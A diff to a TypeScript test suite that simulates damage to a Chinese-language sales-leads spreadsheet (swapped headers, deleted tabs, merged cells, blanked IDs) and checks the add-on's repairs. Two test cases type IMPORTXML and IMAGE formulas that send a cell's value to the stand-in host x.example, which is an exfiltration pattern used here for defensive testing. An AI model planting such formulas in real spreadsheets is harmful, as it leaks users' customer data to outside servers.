@@ -8,6 +8,8 @@ export interface Damage {
   readonly told: string;
   /** Answers to the questions of the check, before its last message. */
   readonly answers?: readonly ('YES' | 'NO')[];
+  /** Columns of the team that nobody can give back. */
+  readonly lost?: readonly string[];
   /** The table is not the same afterwards: what is true of it stands in `holds`. */
   readonly fresh?: true;
   /** Headers that a person gave to columns of ours, by their text: they stay. */
@@ -26,11 +28,18 @@ const at = (book: TestBook, column: string): number => number(letters(book, colu
 
 /** Types a header without any trigger seeing it. */
 function header(book: TestBook, column: string, text: string): void {
-  book.desk.quickly(() => book.desk.type(LEADS, book.place('leads', 1, column), text));
+  unseen(book, () => book.desk.type(LEADS, book.place('leads', 1, column), text));
 }
 
 function whole(book: TestBook, column: string): string {
   return `${letters(book, column)}1:${letters(book, column)}${book.file.tab(LEADS).rowCount}`;
+}
+
+/** What people do while no trigger looks: events get lost, other add-ons and other devices change cells too. */
+function unseen(book: TestBook, act: () => unknown): void {
+  const triggers = book.file.triggers.splice(0);
+  act();
+  book.file.triggers.push(...triggers);
 }
 
 /** The clock fires before anybody checks. */
@@ -75,7 +84,7 @@ export const columnDamages: readonly Damage[] = [
     name: 'two headers swapped',
     damage: (book) => {
       const [one, other] = [book.place('leads', 1, 'source'), book.place('leads', 1, 'need')];
-      book.desk.quickly(() => {
+      unseen(book, () => {
         book.desk.type(LEADS, one, '需求描述');
         book.desk.type(LEADS, other, '线索来源');
       });
@@ -86,7 +95,7 @@ export const columnDamages: readonly Damage[] = [
     name: 'two headers swapped, and the hourly run before anybody checks',
     damage: (book) => {
       const [one, other] = [book.place('leads', 1, 'source'), book.place('leads', 1, 'need')];
-      book.desk.quickly(() => {
+      unseen(book, () => {
         book.desk.type(LEADS, one, '需求描述');
         book.desk.type(LEADS, other, '线索来源');
       });
@@ -100,7 +109,7 @@ export const columnDamages: readonly Damage[] = [
       const place = at(book, 'source');
       book.desk.insertColumns(LEADS, place + 1, 1);
       const copied = book.desk.copy(LEADS, whole(book, 'source'));
-      book.desk.pasteCopied(copied, LEADS, { a1: `${columnOf(place + 1)}1`, mode: 'all' });
+      unseen(book, () => book.desk.pasteCopied(copied, LEADS, { a1: `${columnOf(place + 1)}1`, mode: 'all' }));
     },
     told: '两列',
     names: { '线索来源 2': '' },
@@ -114,15 +123,14 @@ export const columnDamages: readonly Damage[] = [
     name: 'a column cut and pasted at the right end, where its mark does not follow',
     damage: (book) => {
       const copied = book.desk.copy(LEADS, whole(book, 'source'));
-      const end = book.file.tab(LEADS).columnCount;
-      book.desk.pasteCopied(copied, LEADS, { a1: `${columnOf(end)}1`, mode: 'all' });
-      book.desk.clear(LEADS, whole(book, 'source'));
+      const end = book.file.tab(LEADS).columnCount + 1;
+      book.desk.insertColumns(LEADS, end, 1);
+      const old = whole(book, 'source');
+      unseen(book, () => {
+        book.desk.pasteCopied(copied, LEADS, { a1: `${columnOf(end)}1`, mode: 'all' });
+        book.desk.clear(LEADS, old);
+      });
     },
-    told: '',
-  },
-  {
-    name: 'one column sorted alone',
-    damage: (book) => book.desk.sort(LEADS, { column: at(book, 'customerName'), ascending: false, area: `B2:B7` }),
     told: '',
   },
 ];
@@ -136,6 +144,48 @@ function columnOf(place: number): string {
   }
   return text;
 }
+
+export const headerDamages: readonly Damage[] = [
+  {
+    name: 'a header typed over with that of another column, seen by the trigger',
+    damage: (book) => book.desk.type(LEADS, book.place('leads', 1, 'source'), '需求描述'),
+    told: '检查了',
+    holds: (book) => book.desk.toasts.some(({ message }) => message.includes('线索来源')),
+  },
+  {
+    name: 'two headers swapped by one paste, seen by the trigger',
+    damage: (book) => book.desk.paste(LEADS, book.place('leads', 1, 'source'), [['需求描述', '线索来源']]),
+    told: '检查了',
+    holds: (book) => book.desk.toasts.length > 0,
+  },
+  {
+    name: 'a column copied beside itself, seen by the trigger',
+    damage: (book) => {
+      const place = at(book, 'source');
+      book.desk.insertColumns(LEADS, place + 1, 1);
+      const copied = book.desk.copy(LEADS, whole(book, 'source'));
+      book.desk.pasteCopied(copied, LEADS, { a1: `${columnOf(place + 1)}1`, mode: 'all' });
+    },
+    told: '检查了',
+    names: { '线索来源 2': '' },
+  },
+  {
+    name: 'a header pushed down, and the clock before anybody checks',
+    damage: (book) => {
+      book.desk.insertRows(LEADS, 1, 1);
+      fireClock(book);
+    },
+    told: '表头',
+  },
+  {
+    name: 'a header pushed down, and a lead edited before anybody checks',
+    damage: (book) => {
+      book.desk.insertRows(LEADS, 1, 1);
+      book.desk.type(LEADS, 'A10', '');
+    },
+    told: '表头',
+  },
+];
 
 export const rowDamages: readonly Damage[] = [
   {
@@ -200,10 +250,8 @@ export const lookDamages: readonly Damage[] = [
     name: 'a dropdown replaced by that of another column',
     damage: (book) => {
       const copied = book.desk.copy(LEADS, book.place('leads', 2, 'grade'));
-      book.desk.quickly(() =>
-        book.desk.pasteCopied(copied, LEADS, { a1: book.place('leads', 2, 'stage'), mode: 'all' }),
-      );
-      book.desk.quickly(() => book.desk.type(LEADS, book.place('leads', 2, 'stage'), '初次接触'));
+      unseen(book, () => book.desk.pasteCopied(copied, LEADS, { a1: book.place('leads', 2, 'stage'), mode: 'all' }));
+      unseen(book, () => book.desk.type(LEADS, book.place('leads', 2, 'stage'), '初次接触'));
     },
     told: '下拉列表',
   },
@@ -245,14 +293,14 @@ export const lookDamages: readonly Damage[] = [
 export const idDamages: readonly Damage[] = [
   {
     name: 'ids filled down',
-    damage: (book) => book.desk.quickly(() => book.desk.fill(LEADS, 'A2', 'A2:A7')),
+    damage: (book) => unseen(book, () => book.desk.fill(LEADS, 'A2', 'A2:A7')),
     told: '',
   },
-  { name: 'ids blanked', damage: (book) => book.desk.quickly(() => book.desk.clear(LEADS, 'A2:A7')), told: '' },
+  { name: 'ids blanked', damage: (book) => unseen(book, () => book.desk.clear(LEADS, 'A2:A7')), told: '' },
   {
     name: 'ids typed over',
     damage: (book) =>
-      book.desk.quickly(() => {
+      unseen(book, () => {
         book.desk.type(LEADS, 'A3', 'X-1');
         book.desk.type(LEADS, 'A4', '12');
       }),
@@ -261,16 +309,14 @@ export const idDamages: readonly Damage[] = [
   {
     name: 'a row copied, and the copy taken away again',
     damage: (book) => {
-      book.desk.quickly(() =>
-        book.desk.pasteCopied(book.desk.copy(LEADS, 'A2:AZ2'), LEADS, { a1: 'A20', mode: 'all' }),
-      );
-      book.desk.quickly(() => book.desk.clear(LEADS, 'A20:AZ20'));
+      unseen(book, () => book.desk.pasteCopied(book.desk.copy(LEADS, 'A2:AZ2'), LEADS, { a1: 'A20', mode: 'all' }));
+      unseen(book, () => book.desk.clear(LEADS, 'A20:AZ20'));
     },
     told: '',
   },
   {
     name: 'follow-up ids blanked',
-    damage: (book) => book.desk.quickly(() => book.desk.clear('线索跟进计划表', 'O2:O4')),
+    damage: (book) => unseen(book, () => book.desk.clear('线索跟进计划表', 'O2:O4')),
     told: '',
   },
 ];
@@ -280,10 +326,53 @@ export const tabDamages: readonly Damage[] = [
   { name: 'Leads duplicated', damage: (book) => book.desk.duplicateTab(LEADS), told: '副本' },
   {
     name: 'Leads deleted',
-    damage: (book) => book.desk.quickly(() => book.desk.deleteTab(LEADS)),
-    told: LEADS,
+    damage: (book) => book.desk.deleteTab(LEADS),
+    answers: ['YES'],
+    told: '放回 6 行',
+    lost: ['?内部评分'],
   },
-  { name: 'Follow-ups deleted', damage: (book) => book.desk.deleteTab('线索跟进计划表'), told: '线索跟进计划表' },
+  {
+    name: 'Leads deleted, and nobody sure',
+    damage: (book) => book.desk.deleteTab(LEADS),
+    answers: ['NO', 'NO'],
+    told: '什么都没有写入',
+    fresh: true,
+    holds: (book) => !book.file.tabNames().includes(LEADS),
+  },
+  {
+    name: 'Leads deleted, and the clock before anybody checks',
+    damage: (book) => {
+      book.desk.deleteTab(LEADS);
+      fireClock(book);
+    },
+    answers: ['YES'],
+    told: '放回 6 行',
+    lost: ['?内部评分'],
+  },
+  {
+    name: 'every row cleared, and the clock before anybody checks',
+    damage: (book) => {
+      unseen(book, () => book.desk.clear(LEADS, 'A2:AZ900'));
+      fireClock(book);
+    },
+    answers: ['YES'],
+    told: '放回 6 行',
+    lost: ['?内部评分'],
+  },
+  {
+    name: 'every row deleted on purpose',
+    damage: (book) => book.desk.deleteRows(LEADS, 2, 6),
+    answers: ['NO', 'YES'],
+    told: '检查了',
+    fresh: true,
+    holds: (book) => book.history().filter(({ kind }) => kind === '行已删除').length === 6,
+  },
+  {
+    name: 'Follow-ups deleted',
+    damage: (book) => book.desk.deleteTab('线索跟进计划表'),
+    answers: ['YES'],
+    told: '放回 3 行',
+  },
   { name: 'memory deleted', damage: (book) => book.desk.deleteTab(MEMORY), told: MEMORY },
   { name: 'memory sorted', damage: (book) => book.desk.sort(MEMORY, { column: 2, ascending: false }), told: '' },
   {
@@ -308,7 +397,7 @@ export const tabDamages: readonly Damage[] = [
   },
   {
     name: 'a key of Settings changed',
-    damage: (book) => book.desk.quickly(() => book.desk.type('设置', 'A7', 'mine')),
+    damage: (book) => unseen(book, () => book.desk.type('设置', 'A7', 'mine')),
     told: '设置',
   },
   {
@@ -348,7 +437,79 @@ export const fileDamages: readonly Damage[] = [
       book.file.workbook.locale = 'de_DE';
     },
     told: '',
+    fresh: true,
+    holds: (book) => book.stored('leads', 5)['amount'] === 120000,
   },
 ];
 
-export const damages = [...columnDamages, ...rowDamages, ...lookDamages, ...idDamages, ...tabDamages, ...fileDamages];
+export const cellDamages: readonly Damage[] = [
+  {
+    name: 'a formula that reaches outside, turned into text',
+    damage: (book) =>
+      book.desk.type(LEADS, book.place('leads', 2, 'notes'), '=IMPORTXML("https://x.example/?"&E2;"//a")'),
+    answers: ['YES'],
+    told: '已改成值或文字',
+    fresh: true,
+    holds: (book) =>
+      book.file.formula(LEADS, book.place('leads', 2, 'notes')) === '' &&
+      book.shown('leads', 2)['notes']?.startsWith('=IMPORTXML') === true,
+  },
+  {
+    name: 'a formula that reaches outside, kept',
+    damage: (book) => book.desk.type(LEADS, book.place('leads', 2, 'notes'), '=IMAGE("https://x.example/?"&E2)'),
+    answers: ['NO'],
+    told: '仍保留',
+    fresh: true,
+    holds: (book) => book.file.formula(LEADS, book.place('leads', 2, 'notes')).startsWith('=IMAGE'),
+  },
+  {
+    name: 'formulas in place of ids',
+    damage: (book) =>
+      unseen(book, () => {
+        book.desk.setFormat(LEADS, 'A3', '');
+        book.desk.type(LEADS, 'A3', '="LX20240305-0"&(ROW()-1)');
+      }),
+    told: '已改成值或文字',
+    holds: (book) => book.file.formula(LEADS, 'A3') === '',
+  },
+  {
+    name: 'a formula in a column that the add-on fills',
+    damage: (book) => unseen(book, () => book.desk.type(LEADS, book.place('leads', 2, 'followUpCount'), '=1+0')),
+    told: '',
+    holds: (book) => book.file.formula(LEADS, book.place('leads', 2, 'followUpCount')) === '',
+  },
+  {
+    name: 'names of two leads merged, taken apart',
+    damage: (book) => book.desk.merge(LEADS, 'B3:B4'),
+    answers: ['YES'],
+    told: '已取消合并',
+  },
+  {
+    name: 'whole rows merged, with the clock before anybody checks',
+    damage: (book) => {
+      book.desk.merge(LEADS, 'A3:C5');
+      fireClock(book);
+    },
+    answers: ['YES'],
+    told: '已取消合并',
+  },
+  {
+    name: 'ids merged, kept',
+    damage: (book) => book.desk.merge(LEADS, 'A3:A4'),
+    answers: ['NO'],
+    told: '仍保留',
+    fresh: true,
+    holds: (book) => book.history().every(({ kind }) => kind !== '行已删除'),
+  },
+];
+
+export const damages = [
+  ...columnDamages,
+  ...headerDamages,
+  ...rowDamages,
+  ...lookDamages,
+  ...cellDamages,
+  ...idDamages,
+  ...tabDamages,
+  ...fileDamages,
+];
